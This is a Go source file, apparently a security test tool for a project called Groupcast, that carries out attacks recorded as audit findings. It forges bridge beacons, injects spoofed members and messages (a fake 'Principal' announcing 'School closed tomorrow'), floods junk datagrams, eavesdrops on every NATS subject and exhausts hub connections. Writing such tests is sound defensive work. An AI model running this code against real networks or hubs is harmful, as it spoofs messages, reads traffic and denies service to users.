package main

import (
	"bufio"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"net"
	"net/netip"
	"net/url"
	"strings"
	"time"

	"github.com/nats-io/nats.go"

	"github.com/groupcast/groupcast/netconf/bridge"
	"github.com/groupcast/groupcast/netconf/wire"
)

// Attacks on bridges and the hub (issue 31, findings 2, 3 and 5).

// beacons: n beacons, every apart, claiming to be a bridge of network
// net (16 hex digits: another network's id, to cut the two apart) that
// started before any other.
func (t *tool) beacons(netHex string, n int, every time.Duration) error {
	id, err := parseNet(netHex)
	if err != nil {
		return err
	}
	d := wire.AppendBeacon(nil, wire.Beacon{Net: id, Instance: [8]byte{0xee, 0xee}, Started: 1, Forwarding: true})
	for i := range n {
		if err := t.writeTo(d, true); err != nil {
			return err
		}
		if i < n-1 {
			time.Sleep(every)
		}
	}
	return nil
}

// fakeBridge: poses as a bridge (a beacon a second while it runs) and
// passes on, as if from n made-up computers of another network
// (10.99.x.y), a HELLO and a message from each of ids fresh members.
func (t *tool) fakeBridge(n, ids int, every time.Duration) error {
	own := wire.NetID{0x0f, 0xa4, 0xe0}
	there := wire.NetID{0x0f, 0xa4, 0xe1}
	beacon := wire.AppendBeacon(nil, wire.Beacon{Net: own, Instance: [8]byte{0xfa, 0x4e}, Started: time.Now().UnixMicro(), Forwarding: true})
	if err := t.writeTo(beacon, true); err != nil {
		return err
	}
	time.Sleep(100 * time.Millisecond)
	last := time.Now()
	started := time.Now().UnixMicro()
	for s := range n {
		src := netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 99, byte(s >> 8), byte(s)}), 5000)
		for i := range ids {
			id := fakeID(0xfb, s<<12|i)
			for _, p := range []wire.Packet{
				{Kind: wire.KindHello, Sender: id, Body: wire.AppendControl(nil, wire.Control{Trail: 1, Started: started})},
				{Kind: wire.KindData, Sender: id, Seq: 1, Body: []byte("a member of another network")},
			} {
				p.Time, p.Nick = time.Now().UnixMicro(), t.nick
				b, err := wire.AppendEncode(nil, &p)
				if err != nil {
					return err
				}
				if err := t.writeTo(wire.AppendForward(nil, b, wire.Forward{Net: there, Source: src}), p.Kind != wire.KindData); err != nil {
					return err
				}
			}
		}
		if time.Since(last) >= time.Second {
			last = time.Now()
			if err := t.writeTo(beacon, true); err != nil {
				return err
			}
		}
		time.Sleep(every)
	}
	return nil
}

// junk: n datagrams of random bytes, to the group's port and its
// companion in turn, as fast as the socket takes them.
func (t *tool) junk(n int) error {
	b := make([]byte, 1200)
	for i := range n {
		_, _ = rand.Read(b)
		b[0] = 0xff // never a Groupcast magic, never text
		if err := t.writeTo(b, i%2 == 1); err != nil {
			return err
		}
	}
	return nil
}

// natsAttack: what a client of the hub can do, with or without its
// token (-nats's URL): read every subject (">") for a while, publish junk
// and fake members of another network to the group's subjects, hold
// many connections, or subscribe slowly (never reading).
func natsAttack(what, natsURL string, group netip.AddrPort, n int, hold time.Duration, report map[string]any) error {
	switch what {
	case "natsread":
		return natsRead(natsURL, hold, report)
	case "natsjunk":
		return natsJunk(natsURL, group, n, report)
	case "natsconns":
		return natsConns(natsURL, n, hold, false, report)
	case "natsslow":
		return natsConns(natsURL, n, hold, true, report)
	}
	return fmt.Errorf("unknown command %q", what)
}

func natsRead(natsURL string, hold time.Duration, report map[string]any) error {
	nc, err := nats.Connect(natsURL)
	if err != nil {
		report["connected"], report["error"] = false, err.Error()
		return nil
	}
	defer nc.Close()
	report["connected"] = true
	var got, texts int
	refused := make(chan error, 1)
	nc.SetErrorHandler(func(_ *nats.Conn, _ *nats.Subscription, err error) {
		select {
		case refused <- err:
		default:
		}
	})
	s, err := nc.Subscribe(">", func(m *nats.Msg) {
		got++
		if inner, _, ok := wire.ParseForward(m.Data); ok {
			if p, err := wire.Decode(inner); err == nil && p.Kind == wire.KindData {
				texts++
			}
		}
	})
	if err != nil {
		return err
	}
	_ = nc.Flush()
	select {
	case err := <-refused:
		report["error"] = err.Error()
	case <-time.After(hold):
	}
	_ = s.Unsubscribe()
	report["read"], report["texts"] = got, texts
	return nil
}

func natsJunk(natsURL string, group netip.AddrPort, n int, report map[string]any) error {
	nc, err := nats.Connect(natsURL)
	if err != nil {
		report["connected"], report["error"] = false, err.Error()
		return nil
	}
	defer nc.Close()
	report["connected"] = true
	data, ctl := bridge.SubjectsOf(group)
	there := wire.NetID{0x0f, 0xa4, 0xe2}
	junk := make([]byte, 1000)
	published := 0
	for i := range n {
		_, _ = rand.Read(junk)
		junk[0] = 0xff
		src := netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 98, byte(i >> 8), byte(i)}), 5000)
		_ = nc.Publish(data, junk)                                                                // no trailer
		_ = nc.Publish(ctl, wire.AppendForward(nil, junk, wire.Forward{Net: there, Source: src})) // a trailer on junk
		if i < 300 {                                                                              // 300 fake members of another network
			p := wire.Packet{Kind: wire.KindData, Sender: fakeID(0xfc, i), Seq: 1, Nick: "Principal", Time: time.Now().UnixMicro(), Body: []byte("School closed tomorrow")}
			if b, err := wire.AppendEncode(nil, &p); err == nil {
				_ = nc.Publish(data, wire.AppendForward(nil, b, wire.Forward{Net: there, Source: src}))
			}
		}
		published += 2
	}
	report["published"] = published
	return nc.Flush()
}

// natsConns opens n connections to the hub (slow: each subscribes to the
// group subjects' wildcard and never reads, over a raw socket) and holds
// them for hold; it reports how many the hub took.
func natsConns(natsURL string, n int, hold time.Duration, slow bool, report map[string]any) error {
	u, err := url.Parse(natsURL)
	if err != nil {
		return err
	}
	token := u.User.Username()
	var conns []net.Conn
	defer func() {
		for _, c := range conns {
			_ = c.Close()
		}
	}()
	took := 0
	for range n {
		c, err := net.DialTimeout("tcp", u.Host, 2*time.Second)
		if err != nil {
			continue
		}
		conns = append(conns, c)
		_ = c.SetDeadline(time.Now().Add(2 * time.Second))
		r := bufio.NewReader(c)
		if line, err := r.ReadString('\n'); err != nil || !strings.HasPrefix(line, "INFO") {
			continue
		}
		sub := ""
		if slow {
			sub = "SUB gc1.> 1\r\n"
		}
		fmt.Fprintf(c, "CONNECT {\"verbose\":false,\"pedantic\":false,\"auth_token\":%q,\"protocol\":1}\r\n%sPING\r\n", token, sub)
		if line, err := r.ReadString('\n'); err == nil && strings.HasPrefix(line, "PONG") {
			took++
		}
		_ = c.SetDeadline(time.Time{})
	}
	report["tried"], report["taken"] = n, took
	time.Sleep(hold)
	return nil
}

func parseNet(s string) (wire.NetID, error) {
	var id wire.NetID
	b, err := hex.DecodeString(s)
	if err != nil || len(b) != len(id) {
		return id, fmt.Errorf("-net: want 16 hex digits, got %q", s)
	}
	copy(id[:], b)
	return id, nil
}
